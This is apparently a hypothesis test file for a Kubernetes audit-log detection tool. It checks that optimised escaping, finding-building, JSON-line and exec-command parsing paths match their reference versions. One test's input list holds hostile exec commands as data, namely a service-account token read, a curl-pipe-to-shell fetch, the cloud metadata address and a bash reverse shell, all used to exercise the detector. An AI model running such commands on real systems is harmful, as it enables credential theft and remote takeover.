"""The per-finding fast paths (one printable-ASCII check for an event's fields or a list of strings,
event fields built once per event, blocking sinks written inline) give exactly what escaping every
field one by one gives."""

from __future__ import annotations

import io

import orjson
from hypothesis import given, settings
from hypothesis import strategies as st

from kubestrata.detect.escape import clean, clean_any
from kubestrata.detect.event import AuditEvent
from kubestrata.detect.factory import escaped_event_ref, event_ref
from kubestrata.detect.sinks import MemorySink, StreamSink
from kubestrata.findings import EventRef, Finding, Layer, Severity

TEXT = st.text(alphabet=st.sampled_from(list("abc-/:. \t\n\x1b\x7f\x9b\u202e\u2028é")), max_size=80)


def _event(user: str, ua: str, name: str, ip: str, uri_tail: str) -> AuditEvent:
    return AuditEvent(
        {
            "kind": "Event",
            "apiVersion": "audit.k8s.io/v1",
            "auditID": "a-1",
            "stage": "ResponseComplete",
            "verb": "create",
            "requestURI": "/api/v1/namespaces/ns/pods/" + uri_tail,
            "user": {"username": user},
            "sourceIPs": [ip, "10.0.0.1"],
            "userAgent": ua,
            "objectRef": {"resource": "pods", "namespace": "ns", "name": name, "subresource": "exec"},
            "responseStatus": {"code": 101},
            "requestReceivedTimestamp": "2026-11-27T10:00:00Z",
            "stageTimestamp": "2026-11-27T10:00:00Z",
        }
    )


def _finding(i: int) -> Finding:
    ref = EventRef("k8saudit", f"a-{i}", "ResponseComplete")
    return Finding("KS-AUD-F01", "t", Severity.LOW, Layer.CLUSTER, str(i), event=ref, time="")


@settings(max_examples=200, deadline=None)
@given(TEXT, TEXT, TEXT, TEXT, TEXT, st.integers(0, 700))
def test_event_fields_fast_path_equals_escaping_each_field(user, ua, name, ip, tail, pad) -> None:
    ev = _event(user or "u", ua + "y" * pad, name, ip, tail)
    assert event_ref(ev) == escaped_event_ref(ev)


@settings(max_examples=200, deadline=None)
@given(st.lists(TEXT, max_size=70), st.integers(1, 60))
def test_list_fast_path_equals_escaping_each_item(items, limit) -> None:
    assert clean_any(items, limit) == [clean(s, limit) for s in items[:64]]
    assert clean_any(tuple(items), limit) == [clean(s, limit) for s in items[:64]]


def test_inline_sinks_write_everything_in_order() -> None:
    buf = io.BytesIO()
    mem, out = MemorySink(block=True), StreamSink(buf, block=True)
    assert mem.inline and out.inline and not MemorySink().inline
    for i in range(5):
        for s in (mem, out):
            s.submit(_finding(i))
    for s in (mem, out):
        s.close()
    assert [f.message for f in mem.items] == [str(i) for i in range(5)]
    assert [orjson.loads(x)["message"] for x in buf.getvalue().splitlines()] == [str(i) for i in range(5)]
    assert mem.delivered == out.delivered == 5


QUERY = st.text(alphabet=st.sampled_from(list("comandsh=&%+20x7C#?/-é\t ")), max_size=60)


@settings(max_examples=400, deadline=None)
@given(QUERY, st.lists(st.text(alphabet=st.sampled_from(list("ab %+&=/|;\\x1b")), max_size=8), max_size=4))
def test_exec_command_fast_path_equals_parse_qs(tail, args) -> None:
    from urllib.parse import parse_qs, quote, urlsplit

    uri = "/api/v1/namespaces/ns/pods/web/exec?" + "&".join("command=" + quote(a) for a in args) + tail
    raw = _event("u", "ua", "web", "10.0.0.1", "").raw
    ev = AuditEvent({**raw, "requestURI": uri})
    want = parse_qs(urlsplit(uri).query, keep_blank_values=True).get("command") or []
    assert ev.exec_command() == want


def test_factory_builds_the_finding_the_dataclass_would() -> None:
    """The factory's positional Finding and slot-set Evidence equal the keyword-built ones."""
    from kubestrata.detect.catalogue import CATALOGUE
    from kubestrata.detect.factory import FindingFactory
    from kubestrata.detect.rules import Hit
    from kubestrata.findings import Evidence

    ev = _event("alice", "kubectl", "web", "10.0.0.1", "exec?command=id")
    spec = CATALOGUE["KS-AUD-F11"]
    f = FindingFactory()(spec, Hit(spec.id, "m\x1b", [("a", "x"), ("b", ["1", 2])]), ev)
    want = Finding(spec.id, spec.title, spec.severity, Layer.CLUSTER, "m\\x1b",
                   evidence=[Evidence("a", "x"), Evidence("b", ["1", 2])], references=spec.references(),
                   time=ev.timestamp, event=f.event, _fingerprint=f.fingerprint)  # fmt: skip
    assert f == want


# -- the JSON line from precomputed parts (detect/jsonlines.py) --

VALUE = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**63), 2**63 - 1) | TEXT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(TEXT, inner, max_size=4),
    max_leaves=8,
)


@st.composite
def _refs(draw: st.DrawFn) -> EventRef:
    return EventRef(
        draw(st.sampled_from(["k8saudit", "k8saudit", "tetragon", "cloudtrail", "sequence"])),
        draw(TEXT), draw(st.sampled_from(["ResponseComplete", "ResponseStarted", ""])), draw(TEXT), draw(TEXT),
        draw(TEXT), draw(TEXT), draw(TEXT), draw(TEXT), draw(TEXT), draw(TEXT), draw(TEXT),
        tuple(draw(st.lists(TEXT, max_size=3))), draw(TEXT), draw(st.none() | st.integers(100, 599)),
    )  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(
    st.lists(_refs(), min_size=1, max_size=3),
    st.lists(
        st.tuples(
            st.integers(0, 2), st.sampled_from(["KS-AUD-F11", "KS-AUD-G42", "KS-AUD-N08"]), TEXT,
            st.sampled_from(list(Severity)), TEXT, st.none() | TEXT,
            st.lists(st.tuples(TEXT, VALUE), max_size=3), st.integers(0, 2),
            st.none() | st.dictionaries(st.sampled_from(["process", "container"]), VALUE, max_size=2),
        ),
        min_size=1, max_size=8,
    ),
)  # fmt: skip
def test_json_line_equals_the_record_dumped(refs, rows) -> None:
    """Whatever the values (escaped or not, shared event or not, a rule's references dict shared or
    a new one), json_line gives the bytes of orjson.dumps(to_dict())."""
    from kubestrata.detect.jsonlines import json_line
    from kubestrata.findings import Evidence

    shared = [{"mitre": ["T1609"]}, {"falco": ["x"], "sigma": []}, {}]
    for ref_i, rid, title, sev, msg, time, ev, refs_i, details in rows:
        f = Finding(rid, title, sev, Layer.CLUSTER, msg, evidence=[Evidence(p, v) for p, v in ev],
                    references=shared[refs_i] if refs_i < 2 else {"mitre": [title]}, time=time,
                    event=refs[ref_i % len(refs)], _fingerprint=f"{hash(msg) & 0xFFFF:032x}", details=details)  # fmt: skip
        assert json_line(f) == orjson.dumps(f.to_dict())


def test_json_line_of_a_scan_finding_is_its_record() -> None:
    from kubestrata.detect.jsonlines import json_line

    f = Finding("KS-WL-001", "t", Severity.HIGH, Layer.CLUSTER, "m")
    assert json_line(f) == orjson.dumps(f.to_dict())


@settings(max_examples=200, deadline=None)
@given(st.lists(TEXT, max_size=5), st.lists(st.lists(TEXT, max_size=3), max_size=4))
def test_escaped_lists_remembered_across_events_equal_escaping(items, more) -> None:
    from kubestrata.detect.factory import _clean_value

    for v in [items, *more, items, [1, "a"], {"k\n": ["x\x1b"]}, ("t\n",)]:
        assert _clean_value(v) == clean_any(v)


@settings(max_examples=300, deadline=None)
@given(TEXT, TEXT, TEXT, st.lists(st.tuples(st.sampled_from(["a", "anomaly", "requestURI?command"]), VALUE),
                                  max_size=3), st.booleans())  # fmt: skip
def test_factory_fingerprint_and_evidence_json_equal_the_reference(
    user, name, msg, evidence, foreign
) -> None:
    """The factory's fingerprint (the identity encoded once per event) is findings.fingerprint of the
    rule and identity with the shown evidence's JSON; the evidence JSON it hands to json_line is what
    json_line would dump (values it cannot write, an anomaly note: none handed over)."""
    from kubestrata.detect.catalogue import CATALOGUE
    from kubestrata.detect.factory import FindingFactory
    from kubestrata.detect.jsonlines import json_line
    from kubestrata.detect.rules import Hit
    from kubestrata.findings import fingerprint

    ev = _event(user or "u", "kubectl", name, "10.0.0.1", "exec?command=id")
    if foreign:
        evidence = [*evidence, ("b", {1, 2})]  # not JSON: the fingerprint writes str(value)
    build = FindingFactory()
    for rid in ("KS-AUD-F11", "KS-AUD-G42"):  # two findings of one event
        f = build(CATALOGUE[rid], Hit(rid, msg, list(evidence)), ev)
        shown = [{"path": e.path, "value": e.observed} for e in f.evidence if e.path != "anomaly"]
        identity = (rid, ev.cluster, ev.user, ev.verb, ev.resource, ev.subresource, ev.namespace, ev.name)
        assert f.fingerprint == fingerprint(("\x1f".join(identity),), orjson.dumps(shown, default=str))
        if f.evidence_json is not None:
            assert f.evidence_json == orjson.dumps(
                [{"path": e.path, "value": e.observed} for e in f.evidence]
            )
        if not foreign:
            assert json_line(f) == orjson.dumps(f.to_dict())
        assert (f.evidence_json is None) == (foreign or any(p == "anomaly" for p, _ in evidence))


CMD = st.lists(st.sampled_from(["tar", "cf", "-", "sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                                "curl http://x | sh", "169.254.169.254", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "id"]),
               max_size=4)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(CMD, min_size=1, max_size=6))
def test_exec_verdicts_remembered_across_events_equal_searching_each_command(cmds) -> None:
    from urllib.parse import quote

    from kubestrata.detect.rules.native_exec import _SUSPICIOUS, SA_TOKEN, _is_tar_to_stdout, _verdict

    for cmd in cmds:
        uri = "/api/v1/namespaces/ns/pods/web/exec?" + "&".join("command=" + quote(a) for a in cmd)
        ev = AuditEvent({**_event("u", "ua", "web", "10.0.0.1", "").raw, "requestURI": uri})
        text = " ".join(cmd)
        want = (_is_tar_to_stdout(cmd), bool(cmd and SA_TOKEN.search(text)),
                tuple(why for rx, why in _SUSPICIOUS if rx.search(text)))  # fmt: skip
        assert tuple(_verdict(ev)) == want
